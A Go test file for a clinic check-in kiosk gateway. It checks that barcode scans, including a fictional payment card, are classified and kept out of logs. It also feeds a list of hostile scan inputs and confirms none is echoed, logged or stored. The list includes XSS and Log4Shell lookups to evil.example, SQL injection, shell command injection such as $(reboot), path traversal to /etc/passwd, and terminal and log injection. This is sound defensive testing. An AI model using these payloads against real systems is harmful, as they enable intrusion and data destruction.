package gateway_test

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"clinicgate/devices"
	"clinicgate/gateway/config"
)

func withWedge(c *config.Config) {
	c.Devices = append(c.Devices, config.Device{ID: "wedge", Class: devices.Scanner, Mode: "page", Prefix: "S:"})
}

// TestScanThatThePageCaptured: what a scanner types into the page is judged as
// what comes from a port is, whether such a scanner is configured or not.
func TestScanThatThePageCaptured(t *testing.T) {
	for name, prefix := range map[string]string{"configured": "S:", "not configured": ""} {
		t.Run(name, func(t *testing.T) {
			var changes []func(*config.Config)
			if prefix != "" {
				changes = append(changes, withWedge)
			}
			c := newClinic(t, changes...)
			code := c.admit("A-1")
			b := c.browser()
			ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
			defer cancel()
			press := func(event string, more map[string]any) {
				t.Helper()
				if err := b.Press(ctx, event, more); err != nil {
					t.Fatal(err)
				}
			}
			until := func(states ...string) string {
				t.Helper()
				v, err := b.Until(ctx, states...)
				if err != nil {
					t.Fatalf("%v\n%s", err, c.log.String())
				}
				if v.Refusal != nil {
					return v.State + " " + v.Refusal.Sentence
				}
				return v.State
			}
			until("attract")
			press("start", nil)
			press("choose", map[string]any{"language": "en"})
			press("ready", nil)
			until("identify")
			press("scan", map[string]any{"code": prefix + "%B4111111111111111^FICTIONAL/ADA^2512101?"})
			if got := until("refused"); got != "refused other-card" {
				t.Errorf("a payment card: %s", got)
			}
			press("again", nil)
			until("identify")
			press("scan", map[string]any{"code": "]C0" + prefix + code})
			until("confirm")
			press("leave", nil)
			until("attract")

			list, err := c.control.Devices(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if prefix == "" {
				if len(list.Devices) != 0 {
					t.Errorf("devices %+v, want none", list.Devices)
				}
				return
			}
			if len(list.Devices) != 1 || list.Devices[0].Binding != "check-in page" || list.Devices[0].State != "attached" ||
				list.Devices[0].Readings != 2 || list.Devices[0].LastReading.IsZero() {
				t.Errorf("devices %+v", list.Devices)
			}
			if strings.Contains(c.log.String(), "41111111") || strings.Contains(c.log.String(), code) {
				t.Errorf("the log holds a scan:\n%s", c.log.String())
			}
		})
	}
}

// TestHostileCodes: a code can do nothing but be classified. None is echoed,
// logged, stored or published.
func TestHostileCodes(t *testing.T) {
	c := newClinic(t)
	b := c.browser()
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	if _, err := b.Until(ctx, "attract"); err != nil {
		t.Fatal(err)
	}
	const canary = "zqxv"
	looked := 0
	for _, evil := range []string{
		"<script>fetch('http://evil.example/')</script>", "'; DROP TABLE queue; --", "$(reboot)", "`id`", "| shutdown -h now", "%s%n%x%p",
		"http://evil.example/", "javascript:alert(1)", "clinicgate://decommission", "\x1b]0;owned\a\x1b[2J", "a\r\nlevel=ERROR msg=owned", "\u202egnp.exe",
		"{{.Build}}", "${jndi:ldap://evil.example}", "../../etc/passwd", "CHK1:" + strings.Repeat("A", 3000), "shlink:/eyJ1cmwiOiJodHRwOi8vZXZpbC5leGFtcGxlLyJ9",
	} {
		if err := b.Press(ctx, "scan", map[string]any{"code": canary + evil}); err != nil {
			t.Fatal(err)
		}
		v, err := b.Until(ctx, "attract", "language") // attract: it was damaged, or one of too many
		if err != nil {
			t.Fatal(err)
		}
		if v.State == "language" {
			looked++
			for _, event := range []string{"choose", "ready"} {
				if err := b.Press(ctx, event, map[string]any{"language": map[string]string{"choose": "en"}[event]}); err != nil {
					t.Fatal(err)
				}
			}
			if v, err = b.Until(ctx, "refused"); err != nil {
				t.Fatalf("%q: %v\n%s", evil, err, c.log.String())
			}
			if strings.Contains(fmt.Sprintf("%+v %+v", v, v.Refusal), canary) {
				t.Errorf("%q is shown", evil)
			}
			if err := b.Press(ctx, "leave", nil); err != nil {
				t.Fatal(err)
			}
		}
		if _, err := b.Until(ctx, "attract"); err != nil {
			t.Fatal(err)
		}
		time.Sleep(250 * time.Millisecond) // codes that nobody knows come five a second, and no faster
	}
	if looked < 10 {
		t.Errorf("%d codes were looked up", looked)
	}
	if log := c.log.String(); strings.Contains(log, canary) || strings.Contains(log, "evil.example") || strings.Contains(log, "owned") {
		t.Errorf("the log holds a scan:\n%s", log)
	}
	if err := c.stop(); err != nil {
		t.Fatal(err)
	}
	err := filepath.WalkDir(c.cfg.Storage.Dir, func(path string, e os.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		raw, err := os.ReadFile(path)
		if bytes.Contains(raw, []byte(canary)) {
			t.Errorf("%s holds a scan", e.Name())
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}
